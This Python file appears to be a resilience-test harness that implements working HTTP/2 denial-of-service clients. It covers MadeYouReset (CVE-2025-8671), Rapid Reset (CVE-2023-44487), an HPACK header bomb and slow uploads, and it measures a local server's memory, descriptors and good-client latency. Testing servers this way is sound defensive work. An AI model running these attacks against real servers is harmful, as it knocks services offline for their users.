#!/usr/bin/env python3
"""Hostile HTTP/2 clients for scripts/h2-attacks.sh, over raw sockets (plain TCP for h2c; TLS
with ALPN h2 and no certificate check for --tls), frames encoded by PyPI's hyperframe and header
blocks by its hpack (a real dynamic table per connection):

  data-closed HOST PORT     MadeYouReset (CVE-2025-8671): GET with END_STREAM, then DATA on the
                            stream now half-closed (remote), which the server must reset
  wu-zero HOST PORT         MadeYouReset: GET without END_STREAM, then WINDOW_UPDATE(stream, 0)
  wu-overflow HOST PORT     MadeYouReset: GET without END_STREAM, then WINDOW_UPDATE(stream,
                            2^31-1) twice: the stream's send window overflows
  priority-self HOST PORT   MadeYouReset: GET without END_STREAM, then PRIORITY making the
                            stream depend on itself
  rapid-reset HOST PORT     CVE-2023-44487: GET, then RST_STREAM(CANCEL)
  hpack-bomb HOST PORT      one header block that inserts a ~4,000-byte value into the dynamic
                            table and refers to it ~48,000 times (HEADERS + CONTINUATION, under
                            64 KiB; fewer frames if the server ends connections over it),
                            alternating with a ~1,000-byte value referred to as often as one
                            16 KiB HEADERS frame holds; one bomb in flight per connection
  slow-upload HOST PORT     POSTs declaring a 500 KB body, each sent at 4 KiB/s, --uploads per
                            connection (the refused ones opened again a tick later)
  upstream PORT --stats F   an HTTP/1.1 keep-alive upstream (asyncio) answering 200 after
                            --delay ms, counting request heads, connections and the most open at
                            once; `up-requests= up-connections= up-max-open=` go to F on SIGTERM
                            or after --seconds

The reset forms send each stream's HEADERS and its poison in one write, up to 50 new streams
per write, within the server's SETTINGS_MAX_CONCURRENT_STREAMS, as fast as the server reads.
Every attack runs --seconds over --connections connections, opening a new one whenever the
server ends one, while a thread samples the server's (--pid) open descriptors and VmRSS every
100 ms and a good client (curl, a fresh connection every 200 ms) fetches --good-url. Then it
prints one line of key=value facts (the server's RSS sampled again 2 s after the attack).
Every loop is bounded by a deadline. Exit 0 when the attack ran (whatever the server did), 1
when it could not (the good URL failed before the attack).
"""

from __future__ import annotations

import argparse
import asyncio
import bisect
import collections
import os
import select
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time

import hpack
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
MAX_WINDOW = 2**31 - 1
# New streams per write (each with its poison frames).
BATCH = 50
# Output a connection may have queued before it gets more streams (the server's pace).
OUT_HIGH = 64 << 10
# RFC 9113 §6.5.2 recommends at least this many concurrent streams; the pace where the server
# announces no limit.
DEFAULT_CONCURRENT = 100
# No stream slot came free for this long: the connection is dropped and replaced (a stall).
STALL_SECONDS = 1.0
# A connection done for new streams (GOAWAY, stalled) waits this long for the answers to the
# streams the server took; at the end of the attack, the last ones wait SETTLE_SECONDS.
DRAIN_SECONDS = 1.0
SETTLE_SECONDS = 2.0
# The server's RSS is sampled again this long after the attack.
AFTER_SECONDS = 2.0
# A bomb without an answer (status, reset or the connection's end) this long is lost.
BOMB_WAIT = 5.0
BOMB_NAME = b"x-bomb"
BOMB_BLOCK = 64 * 1024 - 512
BOMB_REFS = 48_000
# The bomb's frames: SETTINGS_MAX_FRAME_SIZE's default and the least a server may announce.
FRAME = 16_384
UPLOAD_BYTES = 500_000
UPLOAD_TICK = 0.25
UPLOAD_CHUNK = 1024


# Each reset attack's poison, the frames that follow a stream's HEADERS (a GET), and whether
# that HEADERS ends the request.
POISON = {
    "data-closed": (True, lambda sid: [DataFrame(sid, b"x")]),
    "wu-zero": (False, lambda sid: [WindowUpdateFrame(sid, window_increment=0)]),
    "wu-overflow": (False, lambda sid: [WindowUpdateFrame(sid, window_increment=MAX_WINDOW)] * 2),
    "priority-self": (False, lambda sid: [PriorityFrame(sid, depends_on=sid, stream_weight=15)]),
    "rapid-reset": (True, lambda sid: [RstStreamFrame(sid, error_code=CANCEL)]),
}


class Tally:
    """What every connection of one run saw, added up."""

    def __init__(self, connections: int) -> None:
        self.connections = connections
        self.streams = 0
        self.frames = 0
        self.answers = 0
        self.server_resets = 0
        self.goaways: list[tuple[int, int, int]] = []  # (code, streams, frames) the server took
        self.closes = 0
        self.opened = 0
        self.stalls = 0
        self.connect_errors = 0
        self.max_conn_streams = 0
        self.max_concurrent: int | None = None

    def facts(self) -> str:
        codes = collections.Counter(f"{code:#x}" for code, _, _ in self.goaways)
        return (f"max-concurrent={self.max_concurrent if self.max_concurrent is not None else 'none'} "
                f"streams={self.streams} frames={self.frames} answers={self.answers} "
                f"server-resets={self.server_resets} goaways={len(self.goaways)} "
                f"goaway-codes={','.join(f'{c}*{n}' for c, n in sorted(codes.items())) or 'none'} "
                f"goaway-max-streams={max((s for _, s, _ in self.goaways), default=0)} "
                f"goaway-max-frames={max((f for _, _, f in self.goaways), default=0)} "
                f"max-conn-streams={self.max_conn_streams} closes={self.closes} "
                f"reconnects={max(0, self.opened - self.connections)} stalls={self.stalls} "
                f"connect-errors={self.connect_errors}")


def dial(host: str, port: int, tls: bool) -> socket.socket:
    s = socket.create_connection((host, port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname="localhost")
        if s.selected_alpn_protocol() != "h2":
            s.close()
            raise OSError("the server did not choose h2 by ALPN")
    s.setblocking(False)
    return s


class Conn:
    """One HTTP/2 connection: frames out through a buffer the socket drains as the server
    reads, frames in parsed and tallied. Streams are the client's odd ids, opened in order."""

    def __init__(self, a: argparse.Namespace, tally: Tally) -> None:
        self.sock = dial(a.host, a.port, a.tls)
        self.authority = f"{a.host}:{a.port}".encode()
        self.scheme = b"https" if a.tls else b"http"
        self.tally = tally
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.blocks: dict[tuple, bytes] = {}
        self.out = bytearray(PREFACE)
        self.inbuf = bytearray()
        self.next_id = 1
        self.open: set[int] = set()
        self.status: dict[int, str] = {}
        # Where each frame and each stream's last frame end in the output, in bytes, and the
        # bytes the socket took: what was sent, not only queued, is tallied at the end.
        self.frame_ends: list[int] = []
        self.stream_ends: list[int] = []
        self.queued = len(PREFACE)
        self.written = 0
        self.settings: dict[int, int] | None = None
        self.goaway: GoAwayFrame | None = None
        self.ended = False  # by the server (EOF, an error) or by a frame we could not parse
        self.dropped = False  # by us: stalled, or a bomb unanswered
        self.block = bytearray()
        self.block_head: HeadersFrame | None = None
        self.unacked_data = 0
        self.free_since = time.monotonic()
        self.on_end = None  # called with (stream id, outcome) when a stream ends
        # Our stream windows stay at 65,535 (wu-overflow overflows them); the connection's is
        # opened wide and topped up, so answers never wait on us.
        self.queue(SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}),
                   WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535))

    def fileno(self) -> int:
        return self.sock.fileno()

    def queue(self, *frames: Frame) -> None:
        for f in frames:
            data = f.serialize()
            self.out += data
            self.queued += len(data)
            self.frame_ends.append(self.queued)

    def request(self, path: bytes, method: bytes = b"GET",
                extra: tuple[tuple[bytes, bytes], ...] = ()) -> bytes:
        """The request's header block. The first encoding puts the fields in the dynamic table;
        the second refers to them only, so sent again it changes no table and is kept."""
        key = (path, method, extra)
        if key not in self.blocks:
            fields = [(b":method", method), (b":scheme", self.scheme),
                      (b":authority", self.authority), (b":path", path),
                      (b"user-agent", b"h2attack/hyperframe")] + list(extra)
            first = self.enc.encode(fields)
            self.blocks[key] = self.enc.encode(fields)
            return first
        return self.blocks[key]

    def stream(self, frames_for) -> int:
        """Opens the next stream with the frames `frames_for(id)` gives, queued in order."""
        sid = self.next_id
        self.next_id += 2
        self.queue(*frames_for(sid))
        self.open.add(sid)
        self.stream_ends.append(self.queued)
        return sid

    def room(self) -> int:
        """Streams that may be opened now: free slots under the server's limit, up to BATCH,
        none before its SETTINGS or while the output waits on it."""
        if self.settings is None or len(self.out) > OUT_HIGH:
            return 0
        limit = self.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS, DEFAULT_CONCURRENT)
        free = max(0, limit - len(self.open))
        if free:
            self.free_since = time.monotonic()
        return min(BATCH, free)

    def stalled(self) -> bool:
        return time.monotonic() - self.free_since > STALL_SECONDS

    def done(self) -> bool:
        """No more new streams here."""
        return self.ended or self.dropped or self.goaway is not None

    def waiting(self) -> bool:
        """Streams the server may still answer: the open ones it took (all before a GOAWAY)."""
        if self.ended or self.dropped:
            return False
        last = self.goaway.last_stream_id if self.goaway is not None else MAX_WINDOW
        return any(sid <= last for sid in self.open)

    def flush(self) -> None:
        while self.out and not self.ended:
            try:
                n = self.sock.send(self.out)
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                return
            except OSError:
                self.ended = True
                return
            del self.out[:n]
            self.written += n

    def read(self) -> None:
        for _ in range(64):  # bounded: the other connections get their turn
            try:
                data = self.sock.recv(1 << 16)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except OSError:
                self.ended = True
                break
            if not data:
                self.ended = True
                break
            self.inbuf += data
        try:
            self.parse()
        except (HyperframeError, hpack.HPACKError):
            self.ended = True

    def parse(self) -> None:
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            f, _ = Frame.parse_frame_header(memoryview(bytes(self.inbuf[:9])))
            f.parse_body(memoryview(bytes(self.inbuf[9:9 + length])))
            del self.inbuf[:9 + length]
            self.on_frame(f)

    def on_frame(self, f: Frame) -> None:
        if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            self.settings = {**(self.settings or {}), **f.settings}
            if self.tally.max_concurrent is None:
                self.tally.max_concurrent = f.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)
            self.queue(SettingsFrame(0, flags=["ACK"]))
        elif isinstance(f, PingFrame) and "ACK" not in f.flags:
            self.queue(PingFrame(0, opaque_data=f.opaque_data, flags=["ACK"]))
        elif isinstance(f, GoAwayFrame):
            self.goaway = self.goaway or f
        elif isinstance(f, RstStreamFrame):
            self.tally.server_resets += 1
            self.finish(f.stream_id, f"reset:{f.error_code:#x}")
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            self.on_block(f)
        elif isinstance(f, DataFrame):
            self.unacked_data += f.flow_controlled_length
            if self.unacked_data > 1 << 30:
                self.queue(WindowUpdateFrame(0, window_increment=self.unacked_data))
                self.unacked_data = 0
            if "END_STREAM" in f.flags:
                self.finish(f.stream_id, self.status.get(f.stream_id, "none"))

    def on_block(self, f: Frame) -> None:
        if isinstance(f, HeadersFrame):
            self.block_head = f
            self.block = bytearray()
        self.block += f.data
        if "END_HEADERS" not in f.flags or self.block_head is None:
            return
        head, self.block_head = self.block_head, None
        fields = dict(self.dec.decode(bytes(self.block), raw=True))
        status = fields.get(b":status", b"")
        if status and not status.startswith(b"1") and head.stream_id in self.open:
            self.status.setdefault(head.stream_id, status.decode())
        if "END_STREAM" in head.flags:
            self.finish(head.stream_id, self.status.get(head.stream_id, "none"))

    def finish(self, sid: int, outcome: str) -> None:
        if sid not in self.open:
            return
        self.open.remove(sid)
        self.status.pop(sid, None)
        if not outcome.startswith("reset"):
            self.tally.answers += 1
        if self.on_end:
            self.on_end(sid, outcome)

    def close(self) -> None:
        """Tallies how far the connection went: the streams and frames written and, with a
        GOAWAY, those the server took (up to its last stream id)."""
        sent = bisect.bisect_right(self.stream_ends, self.written)
        self.tally.streams += sent
        self.tally.frames += bisect.bisect_right(self.frame_ends, self.written)
        taken = sent
        if self.goaway is not None:
            taken = min(sent, (self.goaway.last_stream_id + 1) // 2)
            frames = bisect.bisect_right(self.frame_ends, self.stream_ends[taken - 1]) if taken else 0
            self.tally.goaways.append((self.goaway.error_code, taken, frames))
        elif self.ended and not self.dropped:
            self.tally.closes += 1
        self.tally.max_conn_streams = max(self.tally.max_conn_streams, taken)
        self.sock.close()


class Attack:
    """How one attack feeds a connection; `start`, `lost` and `facts` where it needs them."""

    def __init__(self, a: argparse.Namespace) -> None:
        self.path = a.path.encode()

    def start(self, c: Conn) -> None:
        pass

    def feed(self, c: Conn) -> None:
        raise NotImplementedError

    def lost(self, c: Conn) -> None:
        """The connection ends (or the run does) with these streams open."""

    def facts(self) -> str:
        return ""


class Poison(Attack):
    """MadeYouReset and rapid reset: each new stream's HEADERS and poison in one write."""

    def __init__(self, a: argparse.Namespace) -> None:
        super().__init__(a)
        self.form = a.cmd

    def frames(self, c: Conn, sid: int) -> list[Frame]:
        ends, poison = POISON[self.form]
        flags = ["END_HEADERS"] + (["END_STREAM"] if ends else [])
        return [HeadersFrame(sid, c.request(self.path), flags=flags)] + poison(sid)

    def feed(self, c: Conn) -> None:
        room = c.room()
        if not room and c.settings is not None and c.stalled():
            c.tally.stalls += 1  # no stream slot came free: the server neither answers nor resets
            c.dropped = True
        for _ in range(room):
            sid = c.stream(lambda s: self.frames(c, s))
            if self.form == "rapid-reset":
                c.open.discard(sid)  # our reset closed it


class Bomb(Attack):
    """The HPACK bomb, one in flight per connection, alternating its big and small forms;
    outcomes counted by kind."""

    def __init__(self, a: argparse.Namespace) -> None:
        super().__init__(a)
        self.sent = 0
        self.outcomes: collections.Counter = collections.Counter()
        # Frames the big form may use: as many as BOMB_REFS need, one fewer each time the
        # server ends a connection over it (fit what it takes).
        self.big_frames: int | None = None
        self.refs = {True: 0, False: 0}  # references in the last bomb of each form
        self.pending: dict[Conn, tuple[float, bool]] = {}  # when sent, big

    def start(self, c: Conn) -> None:
        c.on_end = lambda sid, outcome: self.ended(c, outcome)

    def block(self, c: Conn, big: bool) -> bytes:
        """A header block that inserts the bomb's value and refers to it as often as fits."""
        table = (c.settings or {}).get(SettingsFrame.HEADER_TABLE_SIZE, 4096)
        if table != c.enc.header_table_size:
            c.enc.header_table_size = table  # the next block starts with the size update
        # An entry costs its name and value plus 32 (RFC 7541 §4.1), and must fit the table.
        size = max(8, min(4000 if big else 1000, table - 32 - len(BOMB_NAME)))
        value = b"%08d" % self.sent + b"b" * (size - 8)  # new each time: inserted anew
        fields = [(b":method", b"GET"), (b":scheme", c.scheme), (b":authority", c.authority),
                  (b":path", self.path), (BOMB_NAME, value)]
        prefix = c.enc.encode(fields, huffman=False)
        ref = c.enc.encode([(BOMB_NAME, value)])  # the newest entry, by index: one byte
        if big:
            if self.big_frames is None:
                self.big_frames = -(-(len(prefix) + BOMB_REFS * len(ref)) // FRAME)
            budget = min(BOMB_BLOCK, self.big_frames * FRAME)
            refs = min(BOMB_REFS, (budget - len(prefix)) // len(ref))
        else:
            refs = (FRAME - len(prefix)) // len(ref)
        self.refs[big] = max(0, refs)
        return prefix + ref * self.refs[big]

    def frames(self, c: Conn, sid: int, big: bool) -> list[Frame]:
        block = self.block(c, big)
        chunks = [block[i:i + FRAME] for i in range(0, len(block), FRAME)]
        frames: list[Frame] = [HeadersFrame(sid, chunks[0], flags=["END_STREAM"])]
        frames += [ContinuationFrame(sid, chunk) for chunk in chunks[1:]]
        frames[-1].flags.add("END_HEADERS")
        return frames

    def feed(self, c: Conn) -> None:
        if c in self.pending:
            if time.monotonic() - self.pending[c][0] > BOMB_WAIT:
                del self.pending[c]
                self.outcomes["lost"] += 1
                c.dropped = True  # replaced by a new connection
            return
        if c.room():
            big = self.sent % 2 == 0
            self.sent += 1
            c.stream(lambda s: self.frames(c, s, big))
            self.pending[c] = (time.monotonic(), big)

    def ended(self, c: Conn, outcome: str) -> None:
        self.pending.pop(c, None)
        self.outcomes["reset" if outcome.startswith("reset") else outcome] += 1

    def lost(self, c: Conn) -> None:
        if c not in self.pending:
            return
        _, big = self.pending.pop(c)
        if c.goaway is None and not c.ended:
            self.outcomes["unanswered"] += 1  # the run ended first
            return
        self.outcomes["goaway" if c.goaway is not None else "closed"] += 1
        if big and self.big_frames and self.big_frames > 1:
            self.big_frames -= 1

    def facts(self) -> str:
        kinds = ("431", "reset", "goaway", "closed", "lost", "unanswered")
        other = sorted(k for k in self.outcomes if k not in kinds)
        return (f"bombs={self.sent} "
                + " ".join(f"bomb-{k}={self.outcomes[k]}" for k in kinds)
                + f" bomb-other={sum(self.outcomes[k] for k in other)}"
                + f" bomb-other-codes={','.join(other) or 'none'} bomb-big-frames={self.big_frames}"
                + f" bomb-big-refs={self.refs[True]} bomb-small-refs={self.refs[False]}")


class SlowUpload(Attack):
    """POSTs declaring UPLOAD_BYTES, each fed UPLOAD_CHUNK per UPLOAD_TICK."""

    def __init__(self, a: argparse.Namespace) -> None:
        super().__init__(a)
        self.uploads = a.uploads
        self.sent: dict[tuple[Conn, int], int] = {}
        self.next_tick: dict[Conn, float] = {}
        self.data_bytes = 0

    def feed(self, c: Conn) -> None:
        now = time.monotonic()
        if c.settings is None or now < self.next_tick.get(c, 0):
            return
        self.next_tick[c] = now + UPLOAD_TICK
        window = c.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, 65535)
        for sid in sorted(c.open):
            done = self.sent.get((c, sid), 0)
            if done + UPLOAD_CHUNK <= min(window, UPLOAD_BYTES):  # never past the stream's window
                c.queue(DataFrame(sid, b"u" * UPLOAD_CHUNK))
                self.sent[(c, sid)] = done + UPLOAD_CHUNK
                self.data_bytes += UPLOAD_CHUNK
        length = ((b"content-length", str(UPLOAD_BYTES).encode()),)
        for _ in range(min(c.room(), self.uploads - len(c.open))):
            c.stream(lambda s: [HeadersFrame(s, c.request(self.path, b"POST", length),
                                             flags=["END_HEADERS"])])

    def facts(self) -> str:
        return f"uploads-per-conn={self.uploads} upload-bytes={self.data_bytes}"


def fds(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


def rss_kb(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


class Sampler(threading.Thread):
    """The server's open descriptors and VmRSS every 100 ms, their maxima kept."""

    def __init__(self, pid: int) -> None:
        super().__init__(daemon=True)
        self.pid = pid
        self.stop = threading.Event()
        self.fd_max = fds(pid)
        self.rss_max = rss_kb(pid)

    def run(self) -> None:
        while not self.stop.wait(0.1):
            try:
                self.fd_max = max(self.fd_max, fds(self.pid))
                self.rss_max = max(self.rss_max, rss_kb(self.pid))
            except OSError:
                return  # the server is gone


def curl(url: str, tls: bool) -> tuple[bool, float]:
    """One request on a fresh connection: (200 over HTTP/2, seconds)."""
    t0 = time.monotonic()
    try:
        r = subprocess.run(["curl", "-sk", "--http2" if tls else "--http2-prior-knowledge",
                            "--max-time", "5", "-o", "/dev/null", "-w",
                            "%{http_code} %{http_version} %{time_total}", url],
                           capture_output=True, text=True, timeout=10)
        code, version, took = r.stdout.split()
        return (code, version) == ("200", "2"), float(took)
    except (subprocess.TimeoutExpired, ValueError):
        return False, time.monotonic() - t0


class Good(threading.Thread):
    """The good client beside the attack: a fetch every 200 ms, each timed."""

    def __init__(self, url: str, tls: bool) -> None:
        super().__init__(daemon=True)
        self.url, self.tls = url, tls
        self.stop = threading.Event()
        self.times: list[float] = []
        self.failures = 0

    def run(self) -> None:
        while not self.stop.is_set():
            t0 = time.monotonic()
            ok, took = curl(self.url, self.tls)
            self.times.append(took)
            self.failures += not ok
            self.stop.wait(max(0.0, 0.2 - (time.monotonic() - t0)))

    def facts(self) -> str:
        times = sorted(self.times)
        p99 = times[min(len(times) - 1, int(0.99 * len(times)))] if times else 0.0
        return (f"good-served={len(times) - self.failures} good-failures={self.failures} "
                f"good-p99={p99:.3f}")


def new_conn(a: argparse.Namespace, tally: Tally, attack: Attack) -> Conn | None:
    try:
        c = Conn(a, tally)
    except OSError:
        tally.connect_errors += 1
        time.sleep(0.05)  # the server refuses: do not spin
        return None
    tally.opened += 1
    attack.start(c)
    return c


def pump(conns: list[Conn], wait: float) -> None:
    """One round of I/O over the connections, waiting at most `wait` s for any."""
    live = [c for c in conns if not c.ended]
    if not live:
        return
    writing = [c for c in live if c.out]
    # TLS may hold decrypted bytes the socket no longer signals.
    held = [c for c in live if isinstance(c.sock, ssl.SSLSocket) and c.sock.pending()]
    readable, writable, _ = select.select(live, writing, [], 0 if held else wait)
    readable = list(set(readable) | set(held))
    for c in readable:
        c.read()
    for c in writable:
        c.flush()


def retire(draining: dict[Conn, float], attack: Attack, force: bool = False) -> None:
    """Closes the draining connections that have nothing more to wait for, or waited enough."""
    now = time.monotonic()
    for c, until in list(draining.items()):
        if force or not c.waiting() or now > until:
            del draining[c]
            attack.lost(c)
            c.close()


def attack_loop(a: argparse.Namespace, attack: Attack, tally: Tally) -> None:
    conns: list[Conn | None] = [None] * a.connections
    # Connections that get no new streams, kept until the streams the server took are answered
    # (a GOAWAY lets those finish): an answer the server sends is counted, not thrown away.
    draining: dict[Conn, float] = {}
    deadline = time.monotonic() + a.seconds
    while time.monotonic() < deadline:
        for i, c in enumerate(conns):
            if c is not None and c.done():
                draining[c] = time.monotonic() + DRAIN_SECONDS
                c = conns[i] = None
            if c is None:
                c = conns[i] = new_conn(a, tally, attack)
            if c is not None:
                attack.feed(c)
                c.flush()
        retire(draining, attack)
        pump([c for c in conns if c is not None] + list(draining), 0.05)
    draining.update((c, time.monotonic() + SETTLE_SECONDS) for c in conns if c is not None)
    settle = time.monotonic() + SETTLE_SECONDS
    while draining and time.monotonic() < settle:
        retire(draining, attack)
        pump(list(draining), 0.05)
    retire(draining, attack, force=True)


def cmd_attack(a: argparse.Namespace) -> int:
    ok, _ = curl(a.good_url, a.tls)
    if not ok:
        print(f"error: the good URL {a.good_url} fails before the attack", file=sys.stderr)
        return 1
    time.sleep(0.3)
    fd_base, rss_base = fds(a.pid), rss_kb(a.pid)
    sampler, good = Sampler(a.pid), Good(a.good_url, a.tls)
    sampler.start()
    good.start()
    attack = {"hpack-bomb": Bomb, "slow-upload": SlowUpload}.get(a.cmd, Poison)(a)
    tally = Tally(a.connections)
    attack_loop(a, attack, tally)
    good.stop.set()
    good.join(15)
    sampler.stop.set()
    sampler.join(1)
    time.sleep(AFTER_SECONDS)
    try:
        rss_after = rss_kb(a.pid)
    except OSError:
        rss_after = 0  # the server is gone
    print(" ".join(s for s in (
        f"seconds={a.seconds:g} connections={a.connections}", tally.facts(), attack.facts(),
        f"fd-base={fd_base} fd-max={sampler.fd_max} rss-base-kb={rss_base} "
        f"rss-max-kb={sampler.rss_max} rss-after-kb={rss_after}", good.facts()) if s))
    return 0


async def upstream(a: argparse.Namespace) -> None:
    """The counting upstream: each request's body read whole, then 200 after --delay ms."""
    counts = {"up-requests": 0, "up-connections": 0, "up-max-open": 0}
    live: set[asyncio.StreamWriter] = set()

    async def body(reader: asyncio.StreamReader, head: bytes) -> None:
        fields = {}
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            fields[name.strip().lower()] = value.strip().lower()
        if b"chunked" in fields.get(b"transfer-encoding", b""):
            while size := int((await reader.readuntil(b"\r\n")).split(b";")[0], 16):
                await reader.readexactly(size + 2)
            while await reader.readuntil(b"\r\n") != b"\r\n":
                pass  # trailers
        else:
            await reader.readexactly(int(fields.get(b"content-length", b"0")))

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        counts["up-connections"] += 1
        live.add(writer)
        counts["up-max-open"] = max(counts["up-max-open"], len(live))
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                counts["up-requests"] += 1
                await body(reader, head)
                await asyncio.sleep(a.delay / 1000)
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
                             b"Content-Length: 3\r\n\r\nok\n")
                await writer.drain()
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError, ValueError,
                asyncio.CancelledError):
            pass  # cancelled: the upstream is stopping, and the task ends quietly
        finally:
            live.discard(writer)
            writer.close()

    loop = asyncio.get_running_loop()
    done = loop.create_future()
    loop.add_signal_handler(signal.SIGTERM, lambda: done.done() or done.set_result(None))
    server = await asyncio.start_server(serve, "127.0.0.1", a.port, limit=64 << 10)
    print(f"upstream listening on 127.0.0.1:{a.port}", flush=True)
    try:
        await asyncio.wait_for(done, a.seconds)
    except asyncio.TimeoutError:
        pass
    server.close()
    with open(a.stats, "w") as f:
        f.write(" ".join(f"{k}={v}" for k, v in counts.items()) + "\n")


ATTACKS = (*POISON, "hpack-bomb", "slow-upload")


def main() -> int:
    p = argparse.ArgumentParser(description="hostile HTTP/2 clients (hyperframe + hpack)")
    sub = p.add_subparsers(dest="cmd", required=True)
    for name in ATTACKS:
        s = sub.add_parser(name)
        s.add_argument("host")
        s.add_argument("port", type=int)
        s.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (else h2c)")
        s.add_argument("--path", required=True, help="the path attacked")
        s.add_argument("--pid", type=int, required=True, help="the server process to sample")
        s.add_argument("--good-url", required=True, help="what the good client fetches")
        s.add_argument("--seconds", type=float, default=10.0, help="how long the attack runs")
        s.add_argument("--connections", type=int, default=2)
        s.add_argument("--uploads", type=int, default=16, help="slow-upload: streams per connection")
    s = sub.add_parser("upstream")
    s.add_argument("port", type=int)
    s.add_argument("--stats", required=True, help="file the counts go to at the end")
    s.add_argument("--delay", type=float, default=50.0, help="ms before each answer")
    s.add_argument("--seconds", type=float, default=600.0, help="how long the upstream lives")
    a = p.parse_args()
    if a.cmd == "upstream":
        asyncio.run(upstream(a))
        return 0
    return cmd_attack(a)


if __name__ == "__main__":
    sys.exit(main())
